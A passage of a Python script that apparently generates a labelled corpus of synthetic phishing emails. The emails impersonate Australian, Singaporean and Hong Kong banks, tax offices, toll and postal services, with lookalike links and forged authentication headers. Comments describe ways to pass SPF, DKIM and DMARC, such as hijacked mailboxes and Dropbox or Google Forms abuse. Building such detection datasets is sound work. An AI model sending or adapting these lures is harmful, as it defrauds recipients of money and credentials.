Your refund is currently on hold because we were unable to verify your bank account details.
Please find your Notice of Assessment attached and follow the instructions to release your refund.

Regards,
Australian Taxation Office
Individual Taxpayer Services
"""
    m.headers = [
        f"From: Australian Taxation Office <noreply@{dom}>",
        f"To: {BRON}",
        "Subject: Your Notice of Assessment 2024 - Refund pending",
        f"Date: {fmt(sent, 2, pad=True)}",
        f"Message-ID: <{hx(name, 'mid', 20)}.{digits(name, 'mid2', 10)}@{dom}>",
        "X-Mailer: Microsoft Outlook 16.0",
        "MIME-Version: 1.0",
    ]
    m.body = mixed(f"----=_NextPart_000_{hx(name, 'b', 4, True)}_01DAE1F2.{hx(name, 'b2', 8, True)}",
                   plain(txt, "us-ascii", "7bit"),
                   attachment("application/pdf", "ATO_Notice_of_Assessment_2024.pdf", pdf))
    emit(m)


def p_linkt() -> None:
    name = "b15-phish-linkt-unpaid-toll"
    t = T("2024-04-10 07:33:19")
    sent = t - timedelta(seconds=2)
    dom = "linkt-tolls.info"
    m = Mail(name, "phishing",
             "Linkt 'unpaid toll $6.48, pay now to avoid a $16.90 admin fee' lure from a lookalike on a German VPS, small amounts to lower suspicion, link to a card-payment clone under a .vip domain",
             LIAM, "outlook", t, (f"mail.{dom}", f"static.{num(name, 'ip', 10, 250)}.112.55.162.clients.your-server.de", "162.55.112.201"),
             f"no-reply@{dom}", "pass", [], ("none", ""), dom, country="DE")
    link = f"https://linkt.com.au-pay.tollsnotice.vip/pay/?n={digits(name, 'n', 8)}"
    htm = f"""<html><head><meta charset="utf-8"></head><body style="font-family:Helvetica,Arial,sans-serif;background:#ffffff;">
<div style="max-width:560px;margin:0 auto;border:1px solid #e5e5e5;">
<div style="background:#5b2d90;padding:16px 20px;color:#fff;font-size:24px;font-weight:bold;">Linkt</div>
<div style="padding:22px 20px;font-size:15px;color:#222;line-height:1.55;">
<p>Hi,</p>
<p>Our records show an unpaid toll for a trip on <b>CityLink</b> on 8 April 2024.</p>
<table style="font-size:14px;margin:10px 0;">
<tr><td style="padding:3px 16px 3px 0;color:#666;">Toll amount</td><td><b>$6.48</b></td></tr>
<tr><td style="padding:3px 16px 3px 0;color:#666;">Notice number</td><td>LK{digits(name, 'lk', 9)}</td></tr>
<tr><td style="padding:3px 16px 3px 0;color:#666;">Due date</td><td>12 April 2024</td></tr>
</table>
<p>To avoid an administration fee of <b>$16.90</b>, please pay the outstanding amount before the due date.</p>
<p style="margin:24px 0;"><a href="{link}" style="background:#5b2d90;color:#fff;padding:12px 30px;border-radius:22px;text-decoration:none;">Pay now</a></p>
<p style="font-size:12px;color:#888;">Linkt is a Transurban brand. Please do not reply to this email.</p>
</div></div></body></html>
"""
    m.headers = [
        f"From: Linkt <no-reply@{dom}>",
        f"To: {LIAM}",
        "Subject: Linkt: You have an unpaid toll - pay now to avoid extra fees",
        f"Date: {fmt(sent, 0)}",
        f"Message-ID: <{hx(name, 'mid', 26)}@{dom}>",
        "MIME-Version: 1.0",
    ]
    m.body = html(htm, "utf-8", "quoted-printable")
    emit(m)


def p_auspost() -> None:
    name = "b15-phish-auspost-parcel-hold-hacked-cpanel"
    t = T("2023-11-28 21:05:51")
    sent = t - timedelta(seconds=3)
    dom = "greenvalleyplumbing.com.au"
    host = "s214.syd2.hostingplatform.net.au"
    m = Mail(name, "phishing",
             "Australia Post 'parcel on hold, confirm your address' lure sent from a hacked plumbing company's cPanel account in Sydney, so SPF and DKIM pass for a real Australian domain; link to a redelivery fee page on a .buzz domain",
             BRON, "optus", t, (host, host, "103.27.32.58"), f"greenval@{host}", "pass",
             [("pass", dom, "default")], ("none", ""), dom, country="AU")
    m.sender = [dkim_sig(m, dom, "default", "Content-Type:MIME-Version:Message-ID:Subject:To:From:Date", sent),
                f"Received: from [::1] (port=48812 helo={host})\n\tby {host} with esmtpa (Exim 4.96.2)\n\t(envelope-from <greenval@{host}>)\n"
                f"\tid 1r87{tok(name, 'ex', 2, ALNUM_MIX)}-00{tok(name, 'ex2', 4, ALNUM_MIX)}-0{num(name, 'ex3', 1, 9)}\n\tfor {BRON};\n\t{fmt(sent, sydney(sent))}"]
    tracking = f"33{tok(name, 'trk', 3, 'ABCDEFGHJKLMNPQRSTUVWXYZ')}{digits(name, 'trk2', 17)}"
    link = f"https://auspost.com.au.redelivery-hold.buzz/mypost/track/{tracking}"
    htm = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head>
<body style="margin:0;font-family:Arial,sans-serif;">
<div style="max-width:600px;margin:0 auto;">
<div style="background:#dc1928;padding:14px 18px;"><span style="color:#fff;font-size:20px;font-weight:bold;">Australia Post</span></div>
<div style="padding:20px 18px;font-size:15px;color:#212129;line-height:1.5;">
<h2 style="font-size:20px;margin-top:0;">Your parcel is on hold</h2>
<p>We attempted to deliver your parcel today but the delivery address was incomplete.</p>
<p><b>Tracking number:</b> {tracking}<br><b>Status:</b> Awaiting customer action</p>
<p>Please confirm your address and pay the redelivery fee of <b>$2.95</b> within 48 hours, otherwise your parcel will be returned to sender.</p>
<p><a href="{link}" style="display:inline-block;background:#dc1928;color:#fff;padding:12px 24px;text-decoration:none;border-radius:4px;">Confirm delivery details</a></p>
<p style="font-size:12px;color:#6c6c70;">&copy; Australia Post 2023. Australia Post acknowledges the Traditional Custodians of the land on which we operate.</p>
</div></div></body></html>
"""
    m.headers = [
        f"Date: {fmt(sent, sydney(sent))}",
        f"To: {BRON}",
        f"From: Australia Post <noreply@{dom}>",
        f"Subject: Action required: your parcel {tracking} is on hold",
        f"Message-ID: <{b64(name, 'mid', 43, True)}@{dom}>",
        "X-Mailer: PHPMailer 6.6.0 (https://github.com/PHPMailer/PHPMailer)",
        "MIME-Version: 1.0",
    ]
    m.body = html(htm, "UTF-8", "quoted-printable")
    emit(m)


def p_commbank_callback() -> None:
    name = "b15-phish-commbank-payee-callback"
    t = T("2025-05-06 00:51:27")
    sent = t - timedelta(seconds=2)
    dom = "netbank-commbank.com"
    m = Mail(name, "phishing",
             "CommBank 'new payee added, $4,850 transfer scheduled' alert with no link at all: the only action is to call a fake 1800 'fraud team' number (callback scam leading to remote-access software and a 'safe account' transfer)",
             SARAH, "iinet", t, (f"smtp.{dom}", f"smtp.{dom}", "45.61.139.22"), f"alerts@{dom}", "pass", [], ("none", ""), dom,
             country="US")
    txt = """NetBank alert

A new payee was added to your NetBank profile and a transfer has been scheduled.

  Payee name:        J. MORRISON
  BSB / Account:     062-** ****4417
  Amount:            $4,850.00
  Scheduled for:     06/05/2025 11:00 AM AEST
  Reference:         INV 2291

If you made this change, no action is needed.

If you did NOT authorise this payee or transfer, call our 24/7 Fraud Team immediately
on 1800 271 963 and quote reference CBA-FRD-558041 so we can stop the payment.

Please do not reply to this email.

Commonwealth Bank of Australia ABN 48 123 123 124 AFSL and Australian credit licence 234945
"""
    htm = """<html><body style="font-family:Arial,sans-serif;font-size:14px;color:#000;">
<div style="border-top:6px solid #ffcc00;max-width:580px;padding:16px;">
<p style="font-size:18px;font-weight:bold;">NetBank alert</p>
<p>A new payee was added to your NetBank profile and a transfer has been scheduled.</p>
<table style="font-size:14px;">
<tr><td style="padding:2px 20px 2px 0;">Payee name</td><td>J. MORRISON</td></tr>
<tr><td style="padding:2px 20px 2px 0;">BSB / Account</td><td>062-** ****4417</td></tr>
<tr><td style="padding:2px 20px 2px 0;">Amount</td><td><b>$4,850.00</b></td></tr>
<tr><td style="padding:2px 20px 2px 0;">Scheduled for</td><td>06/05/2025 11:00 AM AEST</td></tr>
<tr><td style="padding:2px 20px 2px 0;">Reference</td><td>INV 2291</td></tr>
</table>
<p>If you made this change, no action is needed.</p>
<p><b>If you did NOT authorise this payee or transfer, call our 24/7 Fraud Team immediately on 1800 271 963</b> and quote reference <b>CBA-FRD-558041</b> so we can stop the payment.</p>
<p style="font-size:11px;color:#666;">Please do not reply to this email.<br>Commonwealth Bank of Australia ABN 48 123 123 124 AFSL and Australian credit licence 234945</p>
</div></body></html>
"""
    m.headers = [
        f"From: CommBank <alerts@{dom}>",
        f"To: {SARAH}",
        "Subject: NetBank: New payee added - transfer of $4,850.00 scheduled",
        f"Date: {fmt(sent, 10)}",
        f"Message-ID: <{hx(name, 'mid', 30)}@{dom}>",
        "MIME-Version: 1.0",
    ]
    m.body = alt(name, plain(txt, "us-ascii", "7bit"), html(htm, "us-ascii", "7bit"))
    emit(m)


def p_telstra_dropbox() -> None:
    name = "b15-phish-telstra-overdue-dropbox-share"
    t = T("2024-09-18 04:20:11")
    sent = t - timedelta(seconds=2)
    m = Mail(name, "phishing",
             "Telstra 'overdue account' PDF shared through Dropbox's genuine sharing notification (dropbox.com passes SPF/DKIM/DMARC); the shared PDF holds a 'pay now' link to a Telstra ID clone, the attacker's Dropbox display name is 'Telstra Billing'",
             LIAM, "outlook", t, ("mail-out-0a.dropbox.com", "mail-out-0a.dropbox.com", "162.125.4.132"),
             f"bounce-{hx(name, 'b', 16)}@em-s.dropbox.com", "pass", [("pass", "dropbox.com", "20240314")],
             ("pass", "REJECT"), "dropbox.com", country="US")
    m.sender = [dkim_sig(m, "dropbox.com", "20240314", "From:To:Subject:Date:Message-ID:Reply-To:MIME-Version:Content-Type", sent)]
    share = f"https://www.dropbox.com/scl/fi/{tok(name, 'fi', 21)}/Telstra-Invoice-0047812339-Overdue.pdf?rlkey={tok(name, 'rl', 25)}&dl=0"
    htm = f"""<!DOCTYPE html><html><head><meta charset="utf-8"></head>
<body style="margin:0;background:#f7f5f2;font-family:'Atlas Grotesk',Helvetica,Arial,sans-serif;">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:32px 0;">
<table width="520" cellpadding="0" cellspacing="0" style="background:#fff;">
<tr><td style="padding:28px 32px 0;"><img src="https://cfl.dropboxstatic.com/static/images/emails/glyph/glyph_34@2x.png" width="34" alt="Dropbox"></td></tr>
<tr><td style="padding:20px 32px;font-size:16px;color:#1e1919;line-height:1.5;">
<p style="font-size:22px;margin:0 0 12px;">Telstra Billing shared a file with you</p>
<p style="color:#637282;font-size:14px;margin:0 0 18px;">"Your account is overdue. Please review the attached statement and settle the balance of $189.40 by 20/09 to avoid service suspension."</p>
<table cellpadding="0" cellspacing="0" style="border:1px solid #e6e4e1;width:100%;"><tr><td style="padding:14px;font-size:14px;">&#128196; Telstra-Invoice-0047812339-Overdue.pdf</td></tr></table>
<p style="margin:24px 0;"><a href="{share}" style="background:#0061fe;color:#fff;padding:12px 22px;text-decoration:none;border-radius:4px;font-size:15px;">View file</a></p>
</td></tr>
<tr><td style="padding:18px 32px 28px;font-size:12px;color:#637282;">Enjoy!<br>The Dropbox team<br><br>&copy; 2024 Dropbox, Inc.</td></tr>
</table></td></tr></table></body></html>
"""
    txt = f"""Telstra Billing shared a file with you

"Your account is overdue. Please review the attached statement and settle the balance of $189.40 by 20/09 to avoid service suspension."

Telstra-Invoice-0047812339-Overdue.pdf
View file: {share}

Enjoy!
The Dropbox team
"""
    m.headers = [
        "From: Telstra Billing via Dropbox <no-reply@dropbox.com>",
        "Reply-To: telstra.billing.au@outlook.com",
        f"To: {LIAM}",
        'Subject: Telstra Billing shared "Telstra-Invoice-0047812339-Overdue.pdf" with you',
        f"Date: {fmt(sent, 0)}",
        f"Message-ID: <{hx(name, 'mid', 32)}@dropbox.com>",
        "MIME-Version: 1.0",
    ]
    m.body = alt(name, plain(txt), html(htm))
    emit(m)


def p_agl() -> None:
    name = "b15-phish-agl-energy-rebate"
    t = T("2024-02-07 23:14:38")
    sent = t - timedelta(seconds=2)
    dom = "agl-energyrebate.com"
    m = Mail(name, "phishing",
             "AGL 'your $300 Energy Bill Relief rebate is ready to claim' lure riding the 2024 government rebate news, lookalike domain with own SPF/DKIM, link to a claim form that collects card details 'to credit the rebate'",
             SARAH, "iinet", t, (f"mta.{dom}", f"mta.{dom}", "91.92.247.86"), f"rebates@{dom}", "pass",
             [("pass", dom, "s1")], ("none", ""), dom, country="NL")
    m.sender = [dkim_sig(m, dom, "s1", "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", sent)]
    link = f"https://claim.{dom}/rebate/?acct={digits(name, 'a', 10)}"
    htm = f"""<html><head><meta charset="utf-8"></head><body style="font-family:Arial,sans-serif;background:#f4f6f8;">
<div style="max-width:600px;margin:0 auto;background:#fff;">
<div style="padding:18px 24px;background:#001cb0;color:#fff;font-size:26px;font-weight:bold;">AGL</div>
<div style="padding:24px;font-size:15px;line-height:1.6;color:#1d2b36;">
<p>Hi there,</p>
<p>Good news! As part of the <b>Energy Bill Relief Fund</b>, your household is eligible for a one-off rebate of <b>$300.00</b> on your AGL electricity account.</p>
<p>To have the rebate applied before your next bill, please confirm your account and payment details by <b>14 February 2024</b>.</p>
<p style="text-align:center;margin:28px 0;"><a href="{link}" style="background:#00c9a7;color:#001cb0;padding:14px 34px;border-radius:26px;text-decoration:none;font-weight:bold;">Claim my rebate</a></p>
<p style="font-size:12px;color:#667;">Unclaimed rebates will be returned to the Fund.<br>AGL Energy Limited ABN 74 115 061 375</p>
</div></div></body></html>
"""
    m.headers = [
        f"From: AGL Energy <rebates@{dom}>",
        f"To: {SARAH}",
        "Subject: Your $300 Energy Bill Relief rebate is ready to claim",
        f"Date: {fmt(sent, 1)}",
        f"Message-ID: <{guid(name, 'mid')}@{dom}>",
        "MIME-Version: 1.0",
    ]
    m.body = html(htm)
    emit(m)


def p_dbs() -> None:
    name = "b15-phish-dbs-digibank-unusual-signin"
    t = T("2023-05-23 02:44:09")
    sent = t - timedelta(seconds=2)
    dom = "dbs-digibank-sg.com"
    m = Mail(name, "phishing",
             "DBS digibank 'unusual sign-in attempt' lure from a lookalike with own SPF/DKIM, red DBS-styled HTML, link to a dbs.com.sg-prefixed clone that relays the SMS OTP in real time",
             WEILING, "singnet", t, (f"mail.{dom}", f"mail.{dom}", "38.54.88.140"), f"alert@{dom}", "pass",
             [("pass", dom, "default")], ("none", ""), dom, country="SG")
    m.sender = [dkim_sig(m, dom, "default", "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", sent)]
    link = f"https://dbs.com.sg.digibank-auth.online/personal/login?sid={tok(name, 's', 12)}"
    htm = f"""<html><head><meta charset="utf-8"></head>
<body style="font-family:Arial,sans-serif;margin:0;">
<table width="600" align="center" cellpadding="0" cellspacing="0">
<tr><td style="background:#ff3333;padding:14px 20px;color:#fff;font-size:22px;font-weight:bold;">DBS</td></tr>
<tr><td style="padding:22px 20px;font-size:14px;line-height:1.6;color:#333;">
<p>Dear Customer,</p>
<p>We detected an unusual sign-in attempt to your DBS digibank account from a new device:</p>
<p style="background:#f6f6f6;padding:10px;">Device: Android (Samsung SM-A546E)<br>Location: Jakarta, Indonesia<br>Time: 23 May 2023, 10:37 AM (SGT)</p>
<p>If this was not you, please verify your account immediately to prevent unauthorised transactions. Your digibank access will be suspended within 12 hours if no action is taken.</p>
<p style="text-align:center;margin:24px 0;"><a href="{link}" style="background:#ff3333;color:#fff;padding:12px 34px;text-decoration:none;">Secure my account</a></p>
<p>Thank you for banking with us.<br>DBS Bank Ltd</p>
<p style="font-size:11px;color:#888;">This is an automatically generated email. Please do not reply.</p>
</td></tr></table></body></html>
"""
    m.headers = [
        f"From: DBS digibank <alert@{dom}>",
        f"To: {WEILING}",
        "Subject: DBS digibank: Unusual sign-in attempt detected",
        f"Date: {fmt(sent, 8)}",
        f"Message-ID: <{hx(name, 'mid', 24)}@{dom}>",
        "MIME-Version: 1.0",
    ]
    m.body = html(htm)
    emit(m)


def p_ocbc_gmail() -> None:
    name = "b15-phish-ocbc-restricted-freemail"
    t = T("2024-01-09 13:27:50")
    sent = t - timedelta(seconds=1)
    snd = "ocbc.sg.supportteam@gmail.com"
    m = Mail(name, "phishing",
             "OCBC 'your account access has been temporarily restricted' plain text from a free Gmail account (so Gmail's own SPF/DKIM/DMARC all pass), broken English and a TinyURL alias hiding the clone",
             MARCUS, "gmail", t, ("mail-sor-f41.google.com", "mail-sor-f41.google.com", "209.85.220.41"), snd, "pass",
             [("pass", "gmail.com", "20230601")], ("pass", "NONE"), "gmail.com", gts=True)
    m.sender = gmail_sender(m, sent)
    txt = """Dear Valued Customer ,

We have noticed some unusual activity on your OCBC Internet Banking account and for your security your account access has been temporarily restricted.

To restore full access please verify your identity within 24hrs by clicking the link below :

https://tinyurl.com/ocbc-sg-verify24

Failure to verify will result to permanent suspension of your account and OCBC OneToken.

Thank you for your kind understanding .

OCBC Customer Support Team
Oversea-Chinese Banking Corporation Limited
"""
    m.headers = [
        "MIME-Version: 1.0",
        f"From: OCBC Support <{snd}>",
        f"Date: {fmt(sent, 8)}",
        f"Message-ID: <CA+{b64(name, 'mid', 40)}@mail.gmail.com>",
        "Subject: OCBC Alert : Your Account Access Has Been Temporarily Restricted",
        f"To: {MARCUS}",
    ]
    m.body = alt(name, plain(txt, "UTF-8", "7bit"),
                 html("<div dir=\"ltr\">" + txt.replace("\n\n", "<div><br></div>").replace("\n", "<br>") + "</div>\n", "UTF-8", "quoted-printable"),
                 boundary=f"000000000000{hx(name, 'bnd', 16)}")
    emit(m)


def p_singpost() -> None:
    name = "b15-phish-singpost-redelivery-fee"
    t = T("2024-10-02 06:09:33")
    sent = t - timedelta(seconds=1)
    dom = "sgpost-delivery.cc"
    m = Mail(name, "phishing",
             "SingPost 'delivery failed, pay S$1.99 redelivery fee' lure from a throwaway .cc domain without SPF, sent from a Chinese host without TLS; link to a card form",
             WEILING, "singnet", t, ("ecs-119-8-42-77.compute.hwclouds-dns.com", None, "119.8.42.77"), f"service@{dom}", "none", [],
             ("none", ""), dom, tls=False, junk=True, country="CN")
    link = f"https://singpost.com.{tok(name, 'sub', 5)}.{dom}/track?id=SG{digits(name, 'id', 10)}"
    htm = f"""<html><head><meta charset="utf-8"></head><body style="font-family:Arial;">
<div style="width:560px;margin:auto;border:1px solid #ddd;padding:0 0 16px;">
<div style="background:#e40037;color:#fff;padding:12px 16px;font-size:20px;font-weight:bold;">SingPost</div>
<div style="padding:16px;font-size:14px;color:#333;">
<p>Dear customer,</p>
<p>Your package could not be delivered on 02/10/2024 because the address information is incomplete.</p>
<p>Tracking number: <b>SG{digits(name, 'id', 10)}</b></p>
<p>To arrange redelivery, please update your address and pay the redelivery fee of <b>S$1.99</b>. Packages not claimed within 3 days will be returned.</p>
<p><a href="{link}" style="background:#e40037;color:#fff;padding:10px 26px;text-decoration:none;">Update delivery</a></p>
<p style="font-size:11px;color:#999;">Singapore Post Limited</p>
</div></div></body></html>
"""
    m.headers = [
        f"From: SingPost <service@{dom}>",
        f"To: {WEILING}",
        "Subject: SingPost: Your parcel could not be delivered",
        f"Date: {fmt(sent, 8, pad=True)}",
        f"Message-ID: <{digits(name, 'mid', 13)}.{hx(name, 'mid2', 10)}@{dom}>",
        "MIME-Version: 1.0",
    ]
    m.body = html(htm, "utf-8", "base64")
    emit(m)


def p_iras() -> None:
    name = "b15-phish-iras-refund-singpass"
    t = T("2025-04-15 01:03:22")
    sent = t - timedelta(seconds=2)
    dom = "iras-gov-sg.com"
    m = Mail(name, "phishing",
             "IRAS 'you are eligible for a tax refund of S$412.50, log in with Singpass' lure during filing season, lookalike domain with own SPF/DKIM, link to a Singpass login clone on iras.gov.sg-prefixed host",
             MARCUS, "gmail", t, (f"mail.{dom}", f"mail.{dom}", "103.75.190.33"), f"notice@{dom}", "pass",
             [("pass", dom, "mail")], ("none", ""), dom, country="SG")
    m.sender = [dkim_sig(m, dom, "mail", "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", sent)]
    link = f"https://iras.gov.sg.mytax-refund.com/singpass/login?case={digits(name, 'c', 9)}"
    htm = f"""<html><head><meta charset="utf-8"></head><body style="font-family:Arial,sans-serif;">
<div style="max-width:620px;margin:0 auto;">
<div style="border-bottom:3px solid #1f3f7a;padding:14px 0;font-size:18px;color:#1f3f7a;font-weight:bold;">Inland Revenue Authority of Singapore</div>
<div style="padding:18px 0;font-size:14px;line-height:1.6;">
<p>Dear Taxpayer,</p>
<p>Following a review of your Year of Assessment 2024 income tax, we have determined that you are eligible for a refund of <b>S$412.50</b>.</p>
<p>To receive the refund by PayNow, please log in to myTax Portal with your Singpass and confirm your refund details by <b>22 April 2025</b>.</p>
<p><a href="{link}" style="display:inline-block;background:#d7263d;color:#fff;padding:10px 24px;text-decoration:none;border-radius:3px;">Log in with Singpass</a></p>
<p>Yours faithfully,<br>Individual Income Tax Division<br>Inland Revenue Authority of Singapore</p>
<p style="font-size:11px;color:#777;">This is a system-generated email. Please do not reply.</p>
</div></div></body></html>
"""
    m.headers = [
        f"From: IRAS <notice@{dom}>",
        f"To: {MARCUS}",
        "Subject: IRAS: Tax refund of S$412.50 - action required",
        f"Date: {fmt(sent, 8)}",
        f"Message-ID: <{hx(name, 'mid', 28)}@{dom}>",
        "MIME-Version: 1.0",
    ]
    m.body = html(htm)
    emit(m)


def p_singpass_forms() -> None:
    name = "b15-phish-singpass-google-forms"
    t = T("2024-06-18 09:46:52")
    sent = t - timedelta(seconds=2)
    m = Mail(name, "phishing",
             "Singpass 'account review' delivered as a genuine Google Forms invitation from forms-receipts-noreply@google.com (google.com passes everything); the attacker's form asks for Singpass ID, password and the 2FA code",
             PRIYA, "outlook", t, ("mail-sor-f69.google.com", "mail-sor-f69.google.com", "209.85.220.69"),
             f"3{b64(name, 'rp', 30, True)}@formsreceipts.bounces.google.com", "pass",
             [("pass", "google.com", "20230601")], ("pass", "REJECT"), "google.com", country="US")
    m.sender = [dkim_sig(m, "google.com", "20230601", "mime-version:reply-to:message-id:date:subject:from:to", sent, expire=604800),
                f"X-Google-Smtp-Source: AGHT+I{b64(name, 'gss', 80)}",
                f"X-Received: by 2002:a05:6902:{hx(name, 'x1', 4)}:b0:{hx(name, 'x2', 3)}:{hx(name, 'x3', 4)}:{hx(name, 'x4', 4)} with SMTP id\n"
                f"        {tok(name, 'x5', 2)}{digits(name, 'x6', 2)}-{hx(name, 'x7', 10)}mr{digits(name, 'x8', 7)}{tok(name, 'x9', 3)}.{num(name, 'x10', 10, 99)}.{digits(name, 'x11', 13)};\n"
                f"        {fmt(sent, pacific(sent)[0], pacific(sent)[1])}"]
    form = f"https://docs.google.com/forms/d/e/1FAIpQLS{b64(name, 'form', 50, True)}/viewform?usp=send_form"
    htm = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head><body>
<div style="font-family:Roboto,Arial,sans-serif;max-width:600px;margin:0 auto;">
<div style="padding:24px 0 8px;font-size:14px;color:#202124;">I've invited you to fill out a form:</div>
<div style="border:1px solid #dadce0;border-radius:8px;padding:24px;">
<div style="font-size:24px;color:#202124;">Singpass Account Review</div>
<div style="font-size:14px;color:#5f6368;margin-top:12px;">Your Singpass account has been flagged during our routine security review (Ref: SP-REV-2024-{digits(name, 'ref', 6)}). To avoid suspension of access to government digital services, please complete the verification form within 48 hours. This review is mandatory under the Singpass Terms of Use.</div>
<div style="margin-top:24px;"><a href="{form}" style="background:#673ab7;color:#fff;padding:10px 24px;border-radius:4px;text-decoration:none;font-size:14px;">Fill out form</a></div>
</div>
<div style="font-size:12px;color:#5f6368;padding:16px 0;">Google Forms: Create and analyze surveys.<br>
<a href="https://www.google.com/forms/about/?utm_source=product&amp;utm_medium=forms_logo&amp;utm_campaign=forms" style="color:#5f6368;">Create your own Google Form</a><br>
<a href="https://docs.google.com/forms/u/0/d/e/1FAIpQLS{b64(name, 'form', 50, True)}/reportabuse?source=https://docs.google.com/forms/d/e/1FAIpQLS{b64(name, 'form', 50, True)}/viewform" style="color:#5f6368;">Report Abuse</a></div>
</div></body></html>
"""
    txt = f"""I've invited you to fill out a form:
Singpass Account Review

Your Singpass account has been flagged during our routine security review (Ref: SP-REV-2024-{digits(name, 'ref', 6)}). To avoid suspension of access to government digital services, please complete the verification form within 48 hours. This review is mandatory under the Singpass Terms of Use.

To fill out this form, visit:
{form}

Google Forms: Create and analyze surveys.
"""
    m.headers = [
        "MIME-Version: 1.0",
        "Reply-To: singpass.review.sg@gmail.com",
        f"Message-ID: <{b64(name, 'mid', 22, True)}@google.com>",
        f"Date: {fmt(sent, 0)}",
        "Subject: Singpass Account Review",
        "From: \"Singpass Account Review (via Google Forms)\" <forms-receipts-noreply@google.com>",
        f"To: {PRIYA}",
    ]
    m.body = alt(name, plain(txt, "UTF-8", "quoted-printable"), html(htm, "UTF-8", "quoted-printable"),
                 boundary=f"000000000000{hx(name, 'bnd', 16)}")
    emit(m)


def p_hketoll() -> None:
    name = "b15-phish-hketoll-unpaid-bilingual"
    t = T("2024-12-03 04:37:16")
    sent = t - timedelta(seconds=2)
    dom = "hketoll-gov.top"
    m = Mail(name, "phishing",
             "HKeToll unpaid tunnel toll notice in Traditional Chinese and English from a .top lookalike, HK$27 plus a surcharge threat, link to a card-payment clone",
             KELVIN, "gmail", t, (f"mail.{dom}", None, "156.251.18.66"), f"notice@{dom}", "pass", [], ("none", ""), dom,
             country="HK")
    link = f"https://hketoll.gov.hk.{dom}/pay?plate={tok(name, 'p', 2, 'ABCDEFGHJKLMNPRSTUVWXYZ')}{digits(name, 'p2', 4)}"
    htm = f"""<html><head><meta charset="UTF-8"></head><body style="font-family:'Microsoft JhengHei',Arial,sans-serif;font-size:14px;">
<div style="max-width:600px;margin:0 auto;border:1px solid #d0d7de;">
<div style="background:#00579c;color:#fff;padding:12px 18px;font-size:18px;">HKeToll 易通行</div>
<div style="padding:18px;line-height:1.7;">
<p>親愛的車主：</p>
<p>根據我們的紀錄，閣下的車輛於2024年11月28日經過<b>西區海底隧道</b>，隧道費 <b>HK$27.00</b> 尚未繳交。</p>
<p>請於 <b>2024年12月5日</b> 或之前繳付，否則將被徵收附加費並可能被檢控。</p>
<p><a href="{link}" style="background:#00579c;color:#fff;padding:9px 26px;text-decoration:none;">立即繳費 Pay now</a></p>
<hr style="border:0;border-top:1px solid #ddd;">
<p>Dear vehicle owner,</p>
<p>Our records show that your vehicle passed through the <b>Western Harbour Crossing</b> on 28 November 2024 and the toll of <b>HK$27.00</b> remains unpaid. Please pay on or before <b>5 December 2024</b> to avoid a surcharge and possible prosecution.</p>
<p style="font-size:11px;color:#777;">運輸署 Transport Department<br>此乃系統自動發出的電郵，請勿回覆。 This is a system-generated email, please do not reply.</p>
</div></div></body></html>
"""
    m.headers = [
        f"From: {addr('HKeToll 易通行', 'notice@' + dom)}",
        f"To: {KELVIN}",
        f"Subject: {ew('【HKeToll】繳費通知 Payment Notice - 未繳隧道費 HK$27.00')}",
        f"Date: {fmt(sent, 8)}",
        f"Message-ID: <{hx(name, 'mid', 20)}@{dom}>",
        "MIME-Version: 1.0",
    ]
    m.body = html(htm, "UTF-8", "base64")
    emit(m)


def p_hsbc_school() -> None:
    name = "b15-phish-hsbc-hk-hijacked-school-workspace"
    t = T("2025-08-20 02:15:05")
    sent = t - timedelta(seconds=1)
    dom = "lfcps.edu.hk"
    snd = f"office@{dom}"
    m = Mail(name, "phishing",
             "HSBC HK 'online banking suspended' notice in Traditional Chinese and English sent from a hijacked primary-school Google Workspace mailbox: SPF passes and DMARC passes through SPF alignment (DKIM signed only by the gappssmtp default), link to a credential clone",
             KELVIN, "gmail", t, ("mail-sor-f41.google.com", "mail-sor-f41.google.com", "209.85.220.41"), snd, "pass",
             [("pass", "lfcps-edu-hk.20230601.gappssmtp.com", "20230601")], ("pass", "NONE"), dom, gts=True)
    m.sender = [dkim_sig(m, "lfcps-edu-hk.20230601.gappssmtp.com", "20230601", "to:subject:message-id:date:from:mime-version:from:to:cc:subject:date:message-id:reply-to", sent, expire=604800),
                f"X-Gm-Message-State: AOJu0Y{b64(name, 'gms', 90)}",
                f"X-Google-Smtp-Source: AGHT+I{b64(name, 'gss', 80)}",
                f"X-Received: by 2002:a17:90b:{hx(name, 's1', 4)}:b0:{hx(name, 's2', 3)}:{hx(name, 's3', 4)}:{hx(name, 's4', 4)} with SMTP id\n"
                f"        {tok(name, 's5', 2)}{digits(name, 's6', 2)}-{hx(name, 's7', 10)}mr{digits(name, 's8', 7)}.{num(name, 's9', 10, 99)}.{digits(name, 's10', 13)};\n"
                f"        {fmt(sent, pacific(sent)[0], pacific(sent)[1])}"]
    link = f"https://www.hsbc.com.hk-security.appeal-verify.net/security/online/?case={tok(name, 'c', 10, ALNUM_MIX)}"
    htm = f"""<div dir="ltr"><div style="font-family:Arial,sans-serif;font-size:14px;">
<p><b style="color:#db0011;">HSBC 滙豐</b></p>
<p>親愛的客戶：</p>
<p>由於系統偵測到閣下的網上理財帳戶出現異常登入，為保障閣下的資金安全，閣下的網上理財服務已被暫停。</p>
<p>請於24小時內點擊以下連結核實身份，以恢復服務：</p>
<p><a href="{link}">https://www.hsbc.com.hk/security/verify</a></p>
<p>Dear Customer,</p>
<p>Due to an unusual login detected on your account, your HSBC Online Banking has been suspended. Please verify your identity within 24 hours to restore access:</p>
<p><a href="{link}">https://www.hsbc.com.hk/security/verify</a></p>
<p>香港上海滙豐銀行有限公司<br>The Hongkong and Shanghai Banking Corporation Limited</p>
</div></div>
"""
    txt = f"""HSBC 滙豐

親愛的客戶：
由於系統偵測到閣下的網上理財帳戶出現異常登入，為保障閣下的資金安全，閣下的網上理財服務已被暫停。
請於24小時內點擊以下連結核實身份，以恢復服務：
https://www.hsbc.com.hk/security/verify <{link}>

Dear Customer,
Due to an unusual login detected on your account, your HSBC Online Banking has been suspended. Please verify your identity within 24 hours to restore access:
https://www.hsbc.com.hk/security/verify <{link}>

香港上海滙豐銀行有限公司
The Hongkong and Shanghai Banking Corporation Limited
"""
    m.headers = [
        "MIME-Version: 1.0",
        f"From: {addr('HSBC 滙豐', snd)}",
        f"Date: {fmt(sent, 8)}",
        f"Message-ID: <CAF{b64(name, 'mid', 44)}@mail.gmail.com>",
